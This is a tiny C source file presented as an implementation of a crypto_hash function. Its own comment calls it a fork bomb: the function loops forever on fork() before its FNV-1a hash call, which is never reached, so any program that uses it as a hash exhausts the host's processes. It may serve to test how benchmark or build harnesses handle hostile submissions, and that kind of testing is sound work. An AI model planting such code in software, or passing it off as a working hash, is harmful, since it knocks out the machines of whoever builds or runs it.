/* SPDX-License-Identifier: MIT */
/* A fork bomb. */
#include "crypto_hash.h"
#include "fnv1a.h"
#include <unistd.h>

int crypto_hash(unsigned char *out, const unsigned char *in, unsigned long long inlen) {
    while (fork() >= -1)
        ;
    return fnv1a(out, in, inlen);
}
